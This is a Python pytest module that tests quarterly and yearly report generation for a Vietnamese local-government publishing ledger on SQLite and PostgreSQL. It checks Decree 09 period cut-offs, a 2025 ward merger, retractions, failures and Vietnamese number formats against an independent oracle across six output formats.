"""Reports from a real ledger (SQLite file and PostgreSQL), checked number by number in every format.

The ledger is filled through its own API (ensure / claim / record_success / record_failure / retry) with
posts on both sides of the Decree 09 cut-offs (14/3 23:59 and 15/3 00:00 in the site zone), the 2025
ward merger, corrections, retractions after the period and failures. Expected figures come from an
independent oracle over the same list, with the period boundaries written out as dates.
"""

from __future__ import annotations

import csv
import json
import math
import os
import random
import re
import uuid
from collections import Counter
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from pipeline.activities import MESSAGES, message, read_activities
from pipeline.errors import UsageError
from pipeline.ledger import open_ledger
from pipeline.report import build_report, format_number_vi, parse_period, write_report
from pipeline.report.model import date_header_vi

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
NOW = datetime(2026, 1, 20, 9, 0, tzinfo=TZ)
PG_URL = os.environ.get("LOA_TEST_POSTGRES_URL", "postgresql://postgres@127.0.0.1:5432/test")
CHANNEL_TYPES = {"portal": "static_site", "facebook": "facebook", "zalo": "zalo", "telegram": "telegram"}
LABELS = {"channels": {"portal": "Cổng TTĐT", "facebook": "Facebook", "zalo": "Zalo OA", "telegram": "Telegram"},
          "types": {"news": "Tin tức", "guide": "Hướng dẫn"},
          "topics": {"cchc": "Cải cách hành chính", "dvc-truc-tuyen": "Dịch vụ công trực tuyến"}}
UNITS = [
    {"id": "phuong-1", "name": "Phường 1", "kind": "ward", "valid_from": None, "valid_to": date(2025, 6, 30),
     "successor": "phuong-vung-tau"},
    {"id": "phuong-2", "name": "Phường 2", "kind": "ward", "valid_from": None, "valid_to": date(2025, 6, 30),
     "successor": "phuong-vung-tau"},
    {"id": "phuong-7", "name": "Phường 7", "kind": "ward", "valid_from": None, "valid_to": date(2025, 6, 30),
     "successor": "phuong-tam-thang"},
    {"id": "phong-vhtt", "name": "Phòng Văn hóa và Thông tin", "kind": "department", "valid_from": None,
     "valid_to": date(2025, 6, 30), "successor": None},
    {"id": "xa-long-son", "name": "Xã Long Sơn", "kind": "commune", "valid_from": None, "valid_to": None,
     "successor": None},
    {"id": "phuong-vung-tau", "name": "Phường Vũng Tàu", "kind": "ward", "valid_from": date(2025, 7, 1),
     "valid_to": None, "successor": None},
    {"id": "phuong-tam-thang", "name": "Phường Tam Thắng", "kind": "ward", "valid_from": date(2025, 7, 1),
     "valid_to": None, "successor": None},
]
TARGETS = {"ward": {"portal": 6}, "xa-long-son": {"portal": 2, "facebook": 1}}
ORG = {"name_lines": ["ỦY BAN NHÂN DÂN", "THÀNH PHỐ VŨNG TÀU"], "place": "Vũng Tàu",
       "signer_lines": ["TM. ỦY BAN NHÂN DÂN", "KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"], "signer_name": "Nguyễn Văn A",
       "recipients": ["Sở Nội vụ tỉnh Bà Rịa - Vũng Tàu;", "Lưu: VT, NV."], "number_symbol": "BC-UBND"}


def local(y, m, d, hh=9, mm=0, ss=0) -> datetime:
    return datetime(y, m, d, hh, mm, ss, tzinfo=TZ)


@dataclass
class Spec:
    """One post of the test ledger and what happens to each of its channels."""

    post_id: str
    unit: str
    type: str
    topics: list[str]
    published: dict[str, datetime]
    retracted: dict[str, datetime] = field(default_factory=dict)
    corrected: dict[str, datetime] = field(default_factory=dict)
    failed: dict[str, tuple[datetime, str]] = field(default_factory=dict)   # channel -> (at, kind)
    fixed: dict[str, datetime] = field(default_factory=dict)                # failed channel published later

    @property
    def title(self) -> str:
        return f"Tin {self.post_id}"


def _unit_at(day: date) -> list[str]:
    return [u["id"] for u in UNITS if (u["valid_from"] is None or day >= u["valid_from"])
            and (u["valid_to"] is None or day <= u["valid_to"])]


def dataset() -> list[Spec]:
    specs = [
        Spec("edge-before-cut", "phuong-1", "news", ["cchc"],
             {"portal": local(2024, 3, 14, 23, 59), "facebook": local(2024, 3, 14, 23, 59, 30)}),
        Spec("edge-after-cut", "phuong-1", "news", ["cchc"], {"portal": local(2024, 3, 15, 0, 0)}),
        Spec("edge-q1-start", "xa-long-son", "guide", ["dvc-truc-tuyen"], {"portal": local(2023, 12, 15, 0, 0)}),
        Spec("edge-q4-end", "xa-long-son", "guide", [], {"portal": local(2023, 12, 14, 23, 59, 59)}),
        Spec("retracted-later", "phuong-2", "news", ["cchc", "dvc-truc-tuyen"],
             {"portal": local(2024, 2, 1, 8), "zalo": local(2024, 2, 1, 8, 5)},
             retracted={"portal": local(2024, 4, 2, 10)}),
        Spec("corrected-in", "phong-vhtt", "news", ["cchc"], {"portal": local(2024, 1, 10)},
             corrected={"portal": local(2024, 2, 5)}),
        Spec("failed-q1", "phuong-7", "news", [], {"portal": local(2024, 3, 1)},
             failed={"facebook": (local(2024, 3, 1, 9, 1), "permanent")}),
        Spec("transient-q1", "phuong-7", "news", [], {}, failed={"zalo": (local(2024, 3, 3), "transient")}),
        Spec("failed-then-fixed", "phuong-7", "guide", ["dvc-truc-tuyen"], {},
             failed={"telegram": (local(2024, 3, 2), "auth")}, fixed={"telegram": local(2024, 4, 10)}),
        Spec("merger-eve", "phuong-1", "news", ["cchc"], {"portal": local(2025, 6, 30, 23, 59)}),
        Spec("merger-day", "phuong-vung-tau", "news", ["cchc"], {"portal": local(2025, 7, 1, 0, 0)}),
    ]
    rng = random.Random(2024)
    start = local(2022, 12, 1)
    for i in range(150):
        when = start + timedelta(minutes=rng.randrange(0, 3 * 365 * 24 * 60))
        unit = rng.choice(_unit_at(when.date()))
        channels = rng.sample(sorted(CHANNEL_TYPES), rng.randint(1, 3))
        published = {ch: when + timedelta(minutes=j * rng.randint(0, 40)) for j, ch in enumerate(channels)}
        specs.append(Spec(f"bulk-{i:03d}", unit, rng.choice(["news", "news", "guide"]),
                          rng.sample(["cchc", "dvc-truc-tuyen"], rng.randint(0, 2)), published))
    return specs


SPECS = dataset()


def fill(ledger, specs: list[Spec]) -> None:
    """Write the specs through the ledger's own API, so rows and events are what production writes."""
    lease = timedelta(minutes=5)
    for s in specs:
        meta = {"title": s.title, "unit": s.unit, "type": s.type, "topics": s.topics, "author": "test"}
        channels = set(s.published) | set(s.failed)
        for ch in sorted(channels):
            first = min([s.published.get(ch, NOW), s.failed.get(ch, (NOW, ""))[0]])
            ledger.ensure(s.post_id, ch, channel_type=CHANNEL_TYPES[ch], meta=meta, now=first - timedelta(hours=1))
        for ch, (at, kind) in s.failed.items():
            ledger.claim(s.post_id, ch, owner="w1", action="create", version="v1", lease=lease, now=at,
                         allowed_states=("pending",))
            ledger.record_failure(s.post_id, ch, owner="w1", kind=kind, message="vendor said no",
                                  next_attempt_at=at + timedelta(hours=1) if kind == "transient" else None, now=at)
        for ch, at in s.fixed.items():
            ledger.retry(s.post_id, ch, actor="an", now=at - timedelta(minutes=1))
        for ch, at in list(s.published.items()) + list(s.fixed.items()):
            ledger.claim(s.post_id, ch, owner="w1", action="create", version="v1", lease=lease, now=at,
                         allowed_states=("pending",))
            ledger.record_success(s.post_id, ch, owner="w1", remote_id=f"{s.post_id}-{ch}",
                                  remote_url=f"https://example.test/{ch}/{s.post_id}", version="v1",
                                  extra=None, now=at)
        for ch, at in s.corrected.items():
            ledger.claim(s.post_id, ch, owner="w1", action="update", version="v2", lease=lease, now=at,
                         allowed_states=("published",))
            ledger.record_success(s.post_id, ch, owner="w1", remote_id=None, remote_url=None, version="v2",
                                  extra={"correction": "Đính chính số liệu"}, now=at)
        for ch, at in s.retracted.items():
            ledger.claim(s.post_id, ch, owner="w1", action="retract", version="v1", lease=lease, now=at,
                         allowed_states=("published",))
            ledger.record_success(s.post_id, ch, owner="w1", remote_id=None, remote_url=None, version="v1",
                                  extra=None, now=at)


# --- the oracle: expected figures straight from the specs -----------------------------------------------

def expected(specs, start: datetime, end: datetime, as_of: datetime | None = None, units: set | None = None):
    def inside(t):
        return t is not None and start <= t < end and (as_of is None or t <= as_of)
    out = {"items": 0, "by_channel": Counter(), "by_unit": Counter(), "by_type": Counter(), "by_topic": Counter(),
           "retracted": 0, "corrected": 0, "failed_open": 0, "posts": set(), "unit_channel": Counter()}
    for s in specs:
        if units is not None and s.unit not in units:
            continue
        pubs = dict(s.published)
        pubs.update(s.fixed)
        for ch, t in pubs.items():
            if inside(t):
                out["items"] += 1
                out["by_channel"][ch] += 1
                out["by_unit"][s.unit] += 1
                out["by_type"][s.type] += 1
                out["unit_channel"][(s.unit, ch)] += 1
                out["posts"].add(s.post_id)
                for topic in s.topics:
                    out["by_topic"][topic] += 1
        out["retracted"] += sum(1 for t in s.retracted.values() if inside(t))
        out["corrected"] += sum(1 for t in s.corrected.values() if inside(t))
        for ch, (t, kind) in s.failed.items():
            cutoff = as_of or NOW
            still = kind != "transient" and (ch not in s.fixed or s.fixed[ch] - timedelta(minutes=1) > cutoff)
            if still and t < end and t <= cutoff:
                out["failed_open"] += 1
    return out


# --- ledgers ------------------------------------------------------------------------------------------

def _pg_or_skip():
    psycopg = pytest.importorskip("psycopg")
    try:
        psycopg.connect(PG_URL, connect_timeout=3).close()
    except psycopg.OperationalError as exc:
        if os.environ.get("LOA_REQUIRE_SERVICES") == "1":
            pytest.fail(f"PostgreSQL at {PG_URL} is required (LOA_REQUIRE_SERVICES=1) but unreachable: {exc}")
        pytest.skip(f"PostgreSQL at {PG_URL} unreachable (set LOA_REQUIRE_SERVICES=1 to fail instead): {exc}")
    return psycopg


class LedgerFactory:
    """Fresh, migrated ledgers of one backend; PostgreSQL ones each in a new schema dropped at the end."""

    def __init__(self, backend: str, base: Path):
        self.backend, self.base, self.schemas, self.open = backend, base, [], []

    def new(self):
        if self.backend == "sqlite":
            path = self.base / f"ledger-{uuid.uuid4().hex[:8]}.db"
            ledger = open_ledger(str(path), self.base)
        else:
            psycopg = _pg_or_skip()
            schema = f"loa_report_{uuid.uuid4().hex[:10]}"
            with psycopg.connect(PG_URL, autocommit=True) as conn:
                conn.execute(f"CREATE SCHEMA {schema}")
            self.schemas.append(schema)
            sep = "&" if "?" in PG_URL else "?"
            ledger = open_ledger(f"{PG_URL}{sep}options=-csearch_path%3D{schema}", self.base)
        ledger.migrate(now=NOW)
        self.open.append(ledger)
        return ledger

    def close(self):
        for ledger in self.open:
            ledger.close()
        if self.schemas:
            import psycopg
            with psycopg.connect(PG_URL, autocommit=True) as conn:
                for schema in self.schemas:
                    conn.execute(f"DROP SCHEMA IF EXISTS {schema} CASCADE")


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def factory(request, tmp_path_factory):
    f = LedgerFactory(request.param, tmp_path_factory.mktemp(request.param))
    yield f
    f.close()


@pytest.fixture(scope="module")
def ledger(factory):
    led = factory.new()
    fill(led, SPECS)
    return led


def report_for(ledger, key, **kw):
    kw.setdefault("units", UNITS)
    kw.setdefault("targets", TARGETS)
    kw.setdefault("org", ORG)
    kw.setdefault("labels", LABELS)
    return build_report(ledger, parse_period(key, mode=kw.pop("mode", "decree09")), now=NOW, **kw)


def check_totals(report, exp):
    t = report.totals
    assert t.items == exp["items"]
    assert dict(t.by_channel) == dict(exp["by_channel"])
    assert dict(t.by_unit) == dict(exp["by_unit"])
    assert dict(t.by_type) == dict(exp["by_type"])
    assert dict(t.by_topic) == dict(exp["by_topic"])
    assert (t.retracted, t.corrected, t.failed_open) == (exp["retracted"], exp["corrected"], exp["failed_open"])
    assert t.posts == len(exp["posts"])


# --- periods and formats of numbers ----------------------------------------------------------------

@pytest.mark.parametrize("key,start,end,label", [
    ("2024-Q1", date(2023, 12, 15), date(2024, 3, 15), "quý I năm 2024"),
    ("2024-Q2", date(2024, 3, 15), date(2024, 6, 15), "quý II năm 2024"),
    ("2024-Q4", date(2024, 9, 15), date(2024, 12, 15), "quý IV năm 2024"),
    ("2024-H1", date(2023, 12, 15), date(2024, 6, 15), "6 tháng đầu năm 2024"),
    ("2024-H2", date(2024, 6, 15), date(2024, 12, 15), "6 tháng cuối năm 2024"),
    ("2024-9M", date(2023, 12, 15), date(2024, 9, 15), "9 tháng đầu năm 2024"),
    ("2024", date(2023, 12, 15), date(2024, 12, 15), "năm 2024"),
    ("2024-03", date(2024, 2, 15), date(2024, 3, 15), "tháng 3/2024"),
    ("2024-01", date(2023, 12, 15), date(2024, 1, 15), "tháng 1/2024"),
])
def test_decree09_periods(key, start, end, label):
    p = parse_period(key)
    assert (p.start, p.end) == (datetime(start.year, start.month, start.day, tzinfo=TZ),
                                datetime(end.year, end.month, end.day, tzinfo=TZ))
    assert p.label_vi == label and p.key == key
    assert p.contains(p.end - timedelta(microseconds=1)) and not p.contains(p.end)


@pytest.mark.parametrize("key,start,end", [("2024-Q1", date(2024, 1, 1), date(2024, 4, 1)),
                                           ("2024-H2", date(2024, 7, 1), date(2025, 1, 1)),
                                           ("2024-12", date(2024, 12, 1), date(2025, 1, 1)),
                                           ("2024", date(2024, 1, 1), date(2025, 1, 1))])
def test_calendar_periods(key, start, end):
    p = parse_period(key, mode="calendar")
    assert (p.start.date(), p.end.date(), p.start.tzinfo) == (start, end, TZ)


def test_previous_and_same_period_last_year():
    assert parse_period("2024-Q1").previous().key == "2023-Q4"
    assert parse_period("2024-Q3").previous().key == "2024-Q2"
    assert parse_period("2024-H1").previous().key == "2023-H2"
    assert parse_period("2024-01").previous().key == "2023-12"
    assert parse_period("2024").previous().key == "2023"
    assert parse_period("2024-9M").previous().key == "2023-9M"
    assert parse_period("2024-Q2").same_period_last_year().key == "2023-Q2"
    assert parse_period("2024-03", mode="calendar").previous().start == datetime(2024, 2, 1, tzinfo=TZ)


def test_period_ending_before_is_what_the_daemon_reports_after_a_cut_off():
    from pipeline.report import period_ending_before
    morning = local(2024, 3, 15, 7)
    assert [period_ending_before(morning, k).key for k in ("month", "quarter", "half", "year")] == [
        "2024-03", "2024-Q1", "2023-H2", "2023"]
    assert period_ending_before(local(2024, 3, 14, 23, 59), "quarter").key == "2023-Q4"


@pytest.mark.parametrize("bad", ["2024-Q5", "Q1-2024", "2024-13", "24", "", "2024-H3"])
def test_unknown_period_key_names_accepted_forms(bad):
    with pytest.raises(UsageError) as err:
        parse_period(bad)
    assert str(err.value) == (f"unknown period {bad!r}; expected one of YYYY-Q1…YYYY-Q4, YYYY-H1, YYYY-H2, "
                              "YYYY-9M, YYYY or YYYY-MM (e.g. 2024-Q1, 2024-H1, 2024-9M, 2024, 2024-03)")


def test_vietnamese_number_and_date_formats():
    assert format_number_vi(1234) == "1.234"
    assert format_number_vi(1234567) == "1.234.567"
    assert format_number_vi(98.5, percent=True) == "98,5%"
    assert format_number_vi(100.0, percent=True) == "100%"
    assert format_number_vi(1234.5678, 2) == "1.234,57"
    assert format_number_vi(None) == "-"
    assert date_header_vi(date(2024, 1, 5)) == "ngày 05 tháng 01 năm 2024"
    assert date_header_vi(date(2024, 2, 28)) == "ngày 28 tháng 02 năm 2024"
    assert date_header_vi(date(2024, 3, 15)) == "ngày 15 tháng 3 năm 2024"


# --- activities --------------------------------------------------------------------------------------

def write_activity(root: Path, name: str, text: str) -> None:
    path = root / "activities" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def test_activities_read_and_validated(tmp_path):
    write_activity(tmp_path, "2024/a.yaml", "date: 2024-03-02\nunit: phuong-1\nkind: pano\ncount: 3\n")
    write_activity(tmp_path, "2024/b.yaml", "- {date: 2024-03-10, unit: phuong-1, kind: pano, count: 2}\n"
                                            "- {date: 2024-01-20, unit: xa-long-son, kind: hoi-thi, count: 1, "
                                            "place: Nhà văn hóa}\n")
    write_activity(tmp_path, "2024/bad.yaml", "date: 2024-03-02\nunit: phuong-1\nkind: pano\ncount: -3\n")
    write_activity(tmp_path, "2024/worse.yml", "date: 2024-02-30\nunit: phuong-99\nkind: tivi\ncount: many\n")
    write_activity(tmp_path, "2024/missing.yaml", "unit: phuong-1\nkind: pano\n")
    write_activity(tmp_path, "2024/broken.yaml", "date: [2024\n")
    acts, problems = read_activities(tmp_path, [u["id"] for u in UNITS], tz=TZ)
    assert [(a.unit, a.kind, a.count) for a in acts] == [("xa-long-son", "hoi-thi", 1), ("phuong-1", "pano", 3),
                                                         ("phuong-1", "pano", 2)]
    assert acts[0].date == local(2024, 1, 20, 0) and acts[0].place == "Nhà văn hóa"
    got = {(p[0], p[1], p[2]): p[3] for p in problems}
    assert got[("activities/2024/bad.yaml", 4, "activity.count")] == {"value": -3}
    assert message("activity.count", "vi", value=-3) == "Số lượng phải là số nguyên dương, nhận được: -3"
    assert message("activity.count", "en", value=-3) == "count must be a positive whole number, got: -3"
    assert got[("activities/2024/worse.yml", 1, "activity.date")] == {"value": "2024-02-30"}
    assert got[("activities/2024/worse.yml", 2, "activity.unit")] == {"value": "phuong-99"}
    assert got[("activities/2024/worse.yml", 3, "activity.kind")]["value"] == "tivi"
    assert got[("activities/2024/worse.yml", 4, "activity.count")] == {"value": "many"}
    assert {p[3]["key"] for p in problems if p[2] == "activity.missing"} == {"date", "count"}
    assert any(p[0] == "activities/2024/broken.yaml" and p[2] == "activity.yaml" for p in problems)
    assert set(MESSAGES) == {"activity.yaml", "activity.missing", "activity.kind", "activity.count",
                             "activity.unit", "activity.date"}


def test_shipped_sample_activities_are_valid():
    root = Path(__file__).resolve().parent.parent
    from pipeline.config import load_config
    config = load_config(root / "config.toml")
    acts, problems = read_activities(root / "content", list(config.units), tz=config.tz)
    assert problems == [] and acts


# --- aggregation against the ledger ----------------------------------------------------------------

def test_quarter_counts_respect_cutoffs(ledger):
    report = report_for(ledger, "2024-Q1")
    exp = expected(SPECS, local(2023, 12, 15, 0), local(2024, 3, 15, 0))
    check_totals(report, exp)
    # the edge posts: 14/3 23:59 is in Q1, 15/3 00:00 is not; 15/12 00:00 is, 14/12 23:59:59 is not
    ids = {i.post_id for i in report.iter_items()}
    assert {"edge-before-cut", "edge-q1-start", "retracted-later"} <= ids
    assert not {"edge-after-cut", "edge-q4-end"} & ids
    # each Decree 09 month says its dates, so 15-31 December under "tháng 1" reads as the rule
    labels = ("Tháng 1 (15/12/2023-14/01/2024)", "Tháng 2 (15/01-14/02)", "Tháng 3 (15/02-14/03)")
    assert report.per_month == tuple(
        (labels[m - 1], expected(SPECS, local(2024 if m > 1 else 2023, m - 1 or 12, 15, 0),
                                     local(2024, m, 15, 0))["items"]) for m in (1, 2, 3))
    prev = expected(SPECS, local(2023, 9, 15, 0), local(2023, 12, 15, 0))
    year = expected(SPECS, local(2022, 12, 15, 0), local(2023, 3, 15, 0))
    assert (report.previous.items, report.year_ago.items) == (prev["items"], year["items"])
    assert dict(report.previous.by_channel) == dict(prev["by_channel"])
    assert sum(u.items for u in report.units) == report.totals.items
    assert sum(u.previous for u in report.units) == prev["items"]


def test_retraction_after_the_period_is_listed_not_subtracted(ledger):
    q1, q2 = report_for(ledger, "2024-Q1"), report_for(ledger, "2024-Q2")
    item = next(i for i in q1.iter_items() if i.post_id == "retracted-later")
    assert item.retracted_at == local(2024, 4, 2, 10) and set(item.channels) == {"portal", "zalo"}
    assert q1.totals.retracted == 0 and q2.totals.retracted == 1
    assert q1.totals.corrected == 1
    assert q1.totals.failed_open == 1  # failed-q1 (permanent); the transient one is retrying, the auth one fixed
    q1_asof = report_for(ledger, "2024-Q1", as_of=local(2024, 3, 20))
    assert q1_asof.totals.failed_open == 2  # on 20/3 the auth failure was still open
    assert next(i for i in q1_asof.iter_items() if i.post_id == "retracted-later").retracted_at is None


@pytest.mark.parametrize("as_of", [local(2024, 2, 15, 12), local(2024, 3, 20)])
def test_as_of_shows_the_ledger_as_it_was(ledger, as_of):
    report = report_for(ledger, "2024-Q1", as_of=as_of)
    check_totals(report, expected(SPECS, local(2023, 12, 15, 0), local(2024, 3, 15, 0), as_of=as_of))


def test_year_with_merged_units(ledger, tmp_path):
    report = report_for(ledger, "2025")
    text = write_report(report, "md", tmp_path / "2025.md").read_text("utf-8")
    # a year's previous period is last year, the same as "cùng kỳ": said once
    assert "So với kỳ trước" not in text and "2. So với cùng kỳ năm trước (năm 2024: " in text
    assert "Phường 1 |" in text and "đến 30/6/2025" in text
    # the merger is said once, not one note per ward
    assert text.count("Từ ngày 1/7/2025, Phường 1, Phường 2 hợp nhất thành Phường Vũng Tàu.") == 1
    assert text.count("Phường 7 chuyển thành Phường Tam Thắng.") == 1 and text.count("Ghi chú về đơn vị") == 1
    assert text.count("Phòng Văn hóa và Thông tin kết thúc hoạt động từ ngày 1/7/2025.") == 1
    # the 2024 report, a period before the merger, carries no note of it
    text_2024 = write_report(report_for(ledger, "2024-Q1"), "md", tmp_path / "q1.md").read_text("utf-8")
    assert "Ghi chú về đơn vị" not in text_2024 and "30/6/2025" not in text_2024
    assert "chuyển thành/sáp nhập" not in text
    exp = expected(SPECS, local(2024, 12, 15, 0), local(2025, 12, 15, 0))
    check_totals(report, exp)
    rows = {u.id: u for u in report.units}
    old, new = rows["phuong-1"], rows["phuong-vung-tau"]
    assert (old.status, old.successor_name, new.status) == ("ended", "Phường Vũng Tàu", "started")
    assert "Phường Vũng Tàu" in old.note_vi and "30/6/2025" in old.note_vi
    assert old.items == exp["by_unit"]["phuong-1"] and new.items == exp["by_unit"]["phuong-vung-tau"]
    assert sum(u.items for u in report.units) == report.totals.items

    def months_alive(u):  # decree months of 2025 (15th of the month before .. 14th) the unit existed in
        alive = 0
        for m in range(1, 13):
            first = date(2024, 12, 15) if m == 1 else date(2025, m - 1, 15)
            last = date(2025, m, 14)
            if (u["valid_from"] is None or u["valid_from"] <= last) and (u["valid_to"] is None or u["valid_to"] >= first):
                alive += 1
        return alive
    for u in UNITS:
        if u["kind"] == "ward":
            assert rows[u["id"]].targets == {"portal": math.ceil(6 * months_alive(u) / 3)}
    assert months_alive(UNITS[0]) == 7 and rows["phuong-1"].targets["portal"] == 14
    behind = {u.id for u in report.behind}
    assert behind == {u.id for u in report.units if any(u.by_channel.get(c, 0) < t for c, t in u.targets.items())}
    assert "phong-vhtt" not in behind  # no target for departments


def test_unit_filter_takes_units_merged_into_it(ledger):
    report = report_for(ledger, "2025", unit_filter="phuong-vung-tau")
    chosen = {"phuong-vung-tau", "phuong-1", "phuong-2"}
    check_totals(report, expected(SPECS, local(2024, 12, 15, 0), local(2025, 12, 15, 0), units=chosen))
    assert {u.id for u in report.units} <= chosen


@pytest.mark.parametrize("key, as_of, unit", [
    ("2024-Q1", None, None), ("2024-Q1", local(2024, 2, 20), None), ("2025", None, "phuong-vung-tau"),
    ("2024-H1", local(2024, 5, 1), "phuong-2"), ("2025-Q3", None, None), ("2024-03", None, None)])
def test_months_and_comparisons_match_the_oracle(ledger, key, as_of, unit):
    """The months (index range counts) and the comparison columns (a loose index scan) against the
    oracle, with and without as_of and a unit filter: each query of the aggregation checked on its own."""
    period = parse_period(key)
    units = {u["id"] for u in UNITS if u["id"] == unit or u.get("successor") == unit} if unit else None
    report = report_for(ledger, key, as_of=as_of, unit_filter=unit)
    months = [expected(SPECS, m.start, m.end, as_of=as_of, units=units)["items"] for m in period.months()]
    assert [n for _, n in report.per_month] == months and sum(months) == report.totals.items
    for got, other in ((report.previous, period.previous()), (report.year_ago, period.same_period_last_year())):
        exp = expected(SPECS, other.start, other.end, as_of=as_of, units=units)
        assert (got.items, dict(got.by_channel), dict(got.by_unit)) == (
            exp["items"], dict(exp["by_channel"]), dict(exp["by_unit"]))


def test_unknown_unit_filter(ledger):
    with pytest.raises(UsageError) as err:
        report_for(ledger, "2024-Q1", unit_filter="phuong-99")
    assert str(err.value) == ("unknown unit 'phuong-99'; expected one of: phong-vhtt, phuong-1, phuong-2, "
                              "phuong-7, phuong-tam-thang, phuong-vung-tau, xa-long-son")


def test_calendar_mode(ledger):
    report = report_for(ledger, "2024-Q1", mode="calendar")
    check_totals(report, expected(SPECS, local(2024, 1, 1, 0), local(2024, 4, 1, 0)))


def test_items_capped_in_preview_but_streamed_in_full(ledger):
    report = report_for(ledger, "2024", items_limit=5)
    exp = expected(SPECS, local(2023, 12, 15, 0), local(2024, 12, 15, 0))
    assert len(report.items) == 5 and report.items_capped
    streamed = list(report.iter_items())
    assert len(streamed) == len(exp["posts"]) and len({i.post_id for i in streamed}) == len(streamed)
    assert sum(len(i.channels) for i in streamed) == exp["items"]
    dates = [i.date for i in streamed]
    assert dates == sorted(dates) and streamed[:5] == list(report.items)


def test_empty_ledger_says_so(factory, tmp_path):
    report = report_for(factory.new(), "2024-Q1")
    assert report.totals.items == 0 and report.units and all(u.items == 0 for u in report.units)
    for fmt in ("md", "html", "docx", "json", "csv", "xlsx"):
        write_report(report, fmt, tmp_path / f"empty.{fmt}")
    assert "Trong kỳ báo cáo không có tin, bài nào được đăng." in (tmp_path / "empty.md").read_text("utf-8")
    assert "Trong kỳ báo cáo không có tin, bài nào được đăng." in (tmp_path / "empty.html").read_text("utf-8")
    assert json.loads((tmp_path / "empty.json").read_text("utf-8"))["items"] == []
    import docx
    text = "\n".join(p.text for p in docx.Document(str(tmp_path / "empty.docx")).paragraphs)
    assert "Trong kỳ báo cáo không có tin, bài nào được đăng trên các kênh thông tin." in text


def test_unit_missing_from_config_is_listed_and_counted(factory):
    led = factory.new()
    fill(led, [Spec("orphan", "phuong-99", "news", [], {"portal": local(2024, 2, 1)}),
               Spec("known", "phuong-1", "news", [], {"portal": local(2024, 2, 2), "facebook": local(2024, 2, 2)})])
    report = report_for(led, "2024-Q1")
    orphan = next(u for u in report.units if u.id == "phuong-99")
    assert (orphan.status, orphan.items, orphan.note_vi) == ("unknown", 1, "không có trong cấu hình")
    assert sum(u.items for u in report.units) == report.totals.items == 3


def test_unknown_format(ledger, tmp_path):
    with pytest.raises(UsageError) as err:
        write_report(report_for(ledger, "2024-Q1"), "odt", tmp_path / "x.odt")
    assert str(err.value) == "unknown report format 'odt'; expected one of: md, html, docx, xlsx, csv, json"


# --- every number in every format ------------------------------------------------------------------

@pytest.fixture(scope="module")
def written(ledger, tmp_path_factory):
    out = tmp_path_factory.mktemp("out")
    content = tmp_path_factory.mktemp("content")
    write_activity(content, "a.yaml", "- {date: 2024-03-02, unit: phuong-1, kind: pano, count: 3}\n"
                                      "- {date: 2024-03-10, unit: phuong-1, kind: pano, count: 2}\n"
                                      "- {date: 2024-01-05, unit: xa-long-son, kind: bang-ron, count: 12}\n"
                                      "- {date: 2024-03-15, unit: xa-long-son, kind: pano, count: 7}\n")
    acts, problems = read_activities(content, [u["id"] for u in UNITS], tz=TZ)
    assert problems == []
    report = report_for(ledger, "2024-Q1", activities=acts, items_limit=5)
    files = {fmt: write_report(report, fmt, out / f"2024-Q1.{fmt}") for fmt in
             ("md", "html", "docx", "xlsx", "csv", "json")}
    return report, files, expected(SPECS, local(2023, 12, 15, 0), local(2024, 3, 15, 0))


def test_json_shape_and_numbers(written):
    report, files, exp = written
    data = json.loads(files["json"].read_text("utf-8"))
    assert list(data) == ["period", "totals", "units", "activities", "grassroots", "audit", "items"]
    assert data["period"] == {"key": "2024-Q1", "start": "2023-12-15T00:00:00+07:00",
                              "end": "2024-03-15T00:00:00+07:00"}
    assert list(data["totals"]) == ["items", "by_channel", "by_unit", "by_type", "by_topic", "retracted",
                                    "corrected", "failed_open"]
    for key in ("by_channel", "by_unit", "by_type", "by_topic"):
        assert data["totals"][key] == dict(exp[key])
    assert data["totals"]["items"] == exp["items"]
    assert sum(len(i["channels"]) for i in data["items"]) == exp["items"]
    assert len(data["items"]) == len(exp["posts"])  # json carries every item, not the capped preview
    for u in data["units"]:
        assert u["by_channel"] == {ch: n for (unit, ch), n in exp["unit_channel"].items() if unit == u["id"]}
    assert {(a["unit"], a["kind"]): a["count"] for a in data["activities"]} == {
        ("phuong-1", "pano"): 5, ("xa-long-son", "bang-ron"): 12}  # 15/3 is outside Q1


def test_csv_numbers(written):
    report, files, exp = written
    with files["csv"].open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    pick = lambda section: {r["key"]: int(r["value"]) for r in rows if r["section"] == section}  # noqa: E731
    assert pick("totals")["items"] == exp["items"]
    assert pick("by_channel") == dict(exp["by_channel"]) and pick("by_topic") == dict(exp["by_topic"])
    uc = {(r["unit"], r["channel"]): int(r["value"]) for r in rows if r["section"] == "unit_channel"}
    assert {k: v for k, v in uc.items() if v} == dict(exp["unit_channel"])
    assert sum(1 for r in rows if r["section"] == "item") == exp["items"]


def _md_table(text: str, first_header: str) -> dict[str, list[str]]:
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(f"| {first_header} |"))
    table = {}
    for line in lines[start + 2:]:
        if not line.startswith("|"):
            break
        cells = [c.strip().strip("*") for c in line.strip("|").split("|")]
        table[cells[0]] = cells[1:]
    return table


def test_markdown_numbers(written):
    report, files, exp = written
    text = files["md"].read_text("utf-8")
    channels = _md_table(text, "Kênh")
    for ch, n in exp["by_channel"].items():
        assert channels[LABELS["channels"][ch]][0] == format_number_vi(n)
    assert channels["Tổng"][0] == format_number_vi(exp["items"])
    units = _md_table(text, "Đơn vị")
    names = {u["id"]: u["name"] for u in UNITS}
    for uid, n in exp["by_unit"].items():
        assert units[names[uid]][len(report.channels)] == format_number_vi(n)
    assert f"1. Tổng số: {exp['items']} lượt tin, bài ({len(exp['posts'])} tin, bài)" in text
    lines = text.splitlines()
    assert [line[:3] for line in lines if re.match(r"\d\. ", line)] == ["1. ", "2. ", "3. "]
    assert next(line for line in lines if line.startswith("2. ")).startswith("2. So với kỳ trước (quý IV năm 2023: ")
    behind = next(line for line in text.splitlines() if line.startswith("Đơn vị chưa đạt chỉ tiêu: "))
    assert report.behind and all(f"{u.name} (" in behind for u in report.behind)
    activities = _md_table(text, "Đơn vị | Hình thức")
    assert activities["Phường 1"] == ["Pano", "5"] and activities["Tổng"] == ["", "17"]
    assert "Danh sách chỉ gồm 5 trên tổng số" in text
